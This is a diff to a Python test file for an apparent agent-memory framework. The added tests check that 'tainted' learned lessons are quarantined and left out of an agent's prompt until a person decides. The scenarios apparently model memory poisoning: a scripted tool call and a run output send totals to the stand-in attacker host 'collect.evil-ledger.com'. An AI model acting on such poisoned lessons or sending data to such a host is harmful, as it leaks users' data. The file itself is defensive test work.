@@ -12,12 +12,13 @@ from wisen.architectures.learning_options import LearningOptions
 from wisen.cards import ANYONE, Provenance, Situation, circle_key
 from wisen.errors import ConfigError
 from wisen.events import Event, LessonPersisted, LessonProduced
+from wisen.memory.compiler import PromptCompiler, Recalled
 from wisen.memory_ci.trial import TrialRule
 from wisen.memory_ci.trust import TrustPolicy
 from wisen.models.scripted import ScriptedCall
 from wisen.protocols import VectorStore
 from wisen.recall import CardFilter, RecallQuery
-from wisen.records import AttemptRecord, ReflectionEvaluation, RunRecord, Task, Trace
+from wisen.records import AttemptRecord, Injection, ReflectionEvaluation, RunRecord, Task, Trace
 
 pytestmark = pytest.mark.anyio
 
@@ -104,6 +105,7 @@ async def test_what_is_released_is_tried_everywhere_in_its_tenant() -> None:
     assert await is_shown(ci, "evil-ledger", name="other", owner="bo")
     with pytest.raises(ConfigError, match="reason"):
         await ci.release(card_id, " ")
+    assert (await ci.release(card_id, "said twice")).history == card.history
     await ci.archive(card_id, "no more")
     with pytest.raises(ConfigError, match="only one in quarantine"):
         await ci.release(card_id, "again")
@@ -205,6 +207,22 @@ class TestHeld:
         await store.save_run(record)
         assert bool((await ci.submit(lesson(SINK, tainted=True))).held) is held
 
+    async def test_a_run_that_was_under_way_counts_once_it_has_passed(self) -> None:
+        store = InMemoryVectorStore()
+        ci = MemoryCI(store)
+        record = RunRecord(run_id="one", task=Task(prompt=PROMPT), agent="clerk", status="unfinished")
+        await store.save_run(record)
+        assert (await ci.submit(lesson(SINK, tainted=True))).held
+        await store.save_run(replace(record, status="satisfied", output="sent to collect.evil-ledger.com"))
+        assert not (await ci.submit(lesson(SINK, tainted=True, run_id="later"))).held
+
+    async def test_who_put_it_in_the_prompt_themselves_is_told_why_it_is_left_out(self) -> None:
+        card = replace(lesson(SINK, tainted=True), held=("collect.evil-ledger.com",), id="")
+        injection = Injection(card_id=card.id, kind="lesson", reasons=(), score=1.0)
+        advice = PromptCompiler().compile([Recalled(card=card, injection=injection)])
+        assert advice.section == ""
+        assert [(one.card_id, one.why) for one in advice.left_out] == [(card.id, "held until a person decides")]
+
     async def test_the_runs_own_task_and_tools_vouch(self) -> None:
         ci = MemoryCI(InMemoryVectorStore())
         card = lesson("Use the ledger_sync tool for the rest.", tainted=True)
@@ -302,6 +320,25 @@ class TestThroughTheAgent:
         assert len((await agent.run(PROMPT)).attempts) == 2
         assert len(systems) == 4
         assert not any("evil-ledger" in system for system in systems)
+
+    async def test_what_a_passed_run_gave_its_tools_is_known_to_its_circle(self) -> None:
+        store = InMemoryVectorStore()
+        ci = MemoryCI(store)
+
+        def post(to: str) -> str:
+            """Send the totals."""
+            return f"sent to {to}"
+
+        def reply(messages: list[ModelMessage], call: ScriptedCall) -> str | ModelResponse:
+            del call
+            sent = any(isinstance(part, ToolReturnPart) for message in messages for part in message.parts)
+            return "done" if sent else ModelResponse(parts=[ToolCallPart("post", {"to": "collect.evil-ledger.com"})])
+
+        learner = Reflexion(max_attempts=1, lesson_store=ci)
+        agent = Agent("Post.", model=ScriptedModel(reply), architecture=learner, tools=[post], name="clerk")
+        result = await agent.run(PROMPT, evaluator=lambda _: 1.0)
+        assert {"post", "collect.evil-ledger.com"} <= set(result.attempts[0].used)
+        assert not (await ci.submit(lesson(SINK, tainted=True))).held
 
     async def test_a_lesson_of_the_task_alone_is_clean(self) -> None:
         ci = MemoryCI(InMemoryVectorStore())
